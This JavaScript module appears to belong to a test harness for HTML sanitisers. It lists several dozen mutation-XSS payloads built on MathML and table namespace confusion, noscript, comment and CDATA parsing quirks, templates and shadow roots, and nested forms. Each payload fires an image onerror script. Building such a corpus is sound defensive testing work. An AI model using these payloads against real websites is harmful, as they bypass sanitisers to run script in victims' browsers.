/** @import { Attack, Canary } from './attack.mjs' */

const image = (/** @type {Canary} */ { js }) => `<img src=x: onerror=${js}>`;

/** MathML elements that may contain HTML, each with one that may not. */
const TEXTS = ['mtext', 'mi', 'mo', 'mn', 'ms'];
/** HTML elements with plain text content, which is markup in MathML. */
const PLAIN = ['style', 'xmp', 'noembed', 'noframes'];

/** @typedef {[string, (canary: Canary) => string]} Named */

/** What is harmless as a tree and is not when it was written down and read again. @type {Named[]} */
const WRITTEN_AGAIN = [
  ...TEXTS.map(
    (text) =>
      /** @type {Named} */ ([
        `a table in ${text} that moves its mglyph out`,
        (c) => `<math><${text}><table><mglyph><style>${image(c)}</style></mglyph></table></${text}></math>`,
      ]),
  ),
  ...PLAIN.flatMap(
    (plain) =>
      /** @type {Named[]} */ ([
        [
          `a table that moves a malignmark with ${plain} out`,
          (c) =>
            `<math><mtext><table><malignmark><${plain}>${image(c)}</${plain}></malignmark></table></mtext></math>`,
        ],
        [
          `a form in a form with mglyph and ${plain}`,
          (c) =>
            `<form><math><mtext></form><form><mglyph><${plain}></math>${image(c)}</${plain}></mglyph></form></mtext></math></form>`,
        ],
        [
          `an annotation that loses its encoding, with ${plain}`,
          (c) =>
            `<math><annotation-xml encoding="text/html"><${plain}>${image(c)}</${plain}></annotation-xml></math>`,
        ],
      ]),
  ),
  [
    'an annotation of XHTML that loses its encoding',
    (c) =>
      `<math><annotation-xml encoding="application/xhtml+xml"><style>${image(c)}</style></annotation-xml></math>`,
  ],
  [
    'a form in a form, far down',
    (c) => `${'<div>'.repeat(200)}<form><math><mtext></form><form><mglyph><style></math>${image(c)}</style>`,
  ],
];

/** What looks harmless to a reader that does not read as the page will. @type {Attack[]} */
const READ_OTHERWISE = [
  {
    name: 'noscript, where scripts run',
    payload: (c) => `<noscript><p title="</noscript>${image(c)}">a</p></noscript>`,
    live: 'judge',
  },
  {
    name: 'noscript with a comment',
    payload: (c) => `<noscript><!--</noscript>${image(c)}--></noscript>`,
    live: 'judge',
  },
  {
    name: 'noscript with a style',
    payload: (c) => `<noscript><style></noscript>${image(c)}</style></noscript>`,
    live: 'judge',
  },
  { name: 'a template', payload: (c) => `<template>${image(c)}</template>`, live: 'template' },
  {
    name: 'a template in a template',
    payload: (c) => `<template><template></template>${image(c)}</template>`,
    live: 'template',
  },
  {
    name: 'a template in a table',
    payload: (c) => `<table><template>${image(c)}</template></table>`,
    live: 'template',
  },
  {
    name: 'a shadow written as a template',
    payload: (c) => `<p></p><div><template shadowrootmode=open>${image(c)}</template></div>`,
    live: 'unsafe',
  },
  {
    name: 'a closed shadow in a shadow',
    payload: (c) =>
      `<div><template shadowrootmode=closed><div><template shadowrootmode=open>${image(c)}</template></div></template></div>`,
    live: 'unsafe',
  },
  { name: 'a comment that is over at once', payload: (c) => `<!-->${image(c)}-->`, live: 'strip' },
  { name: 'a comment that is over after one dash', payload: (c) => `<!--->${image(c)}-->`, live: 'strip' },
  {
    name: 'a comment that ends with an exclamation',
    payload: (c) => `<!-- a --!>${image(c)}-->`,
    live: 'strip',
  },
  {
    // Looks like an unfilled template, so it is not read as a description and not posted.
    name: 'character data outside foreign elements',
    ends: 'advert',
    payload: (c) => `<![CDATA[>${image(c)}]]>`,
    live: 'strip',
  },
  {
    name: 'character data in an SVG that ended',
    ends: 'advert',
    payload: (c) => `<svg></svg><![CDATA[a>${image(c)}]]>`,
    live: 'strip',
  },
  {
    name: 'words that are markup when they are read again',
    payload: ({ js }) => `<p>&lt;img src=x: onerror=${js}&gt;</p>`,
    live: 'retext',
  },
  { name: 'words in a textarea', payload: (c) => `<textarea>${image(c)}</textarea>`, live: 'retext' },
  {
    name: 'words in a title',
    payload: (c) => `<p>a</p><svg></svg><title>${image(c)}</title>`,
    live: 'retext',
  },
  {
    name: 'a choice with an image in it',
    payload: (c) => `<select><button>${image(c)}</button><option>a</option></select>`,
  },
  { name: 'an option outside a choice', payload: (c) => `<option><p>${image(c)}</option>` },
  {
    name: 'an element that says it is another',
    payload: ({ js }) => `<img is="x-img" src=x: onerror=${js}>`,
  },
  {
    name: 'links in links',
    payload: (c) =>
      `<a href="http://a.example/"><table><a href="http://b.example/">${image(c)}</a></table></a>`,
  },
  { name: 'an end tag without a start', payload: (c) => `</p></br></table></select>${image(c)}` },
  { name: 'nesting deeper than the parser goes', payload: (c) => `${'<b>'.repeat(600)}${image(c)}` },
  { name: 'a frame set', payload: ({ url }) => `<frameset><frame src="${url}"></frameset>`, live: 'write' },
  { name: 'plain text that never ends', payload: (c) => `<math><plaintext>${image(c)}` },
];

/** Markup that changes its meaning on the way, of the kinds that sanitisers fell for. @type {Attack[]} */
export const mutation = [
  ...WRITTEN_AGAIN.map(([name, payload]) => ({ name, payload, live: /** @type {const} */ ('mutate') })),
  ...READ_OTHERWISE,
];
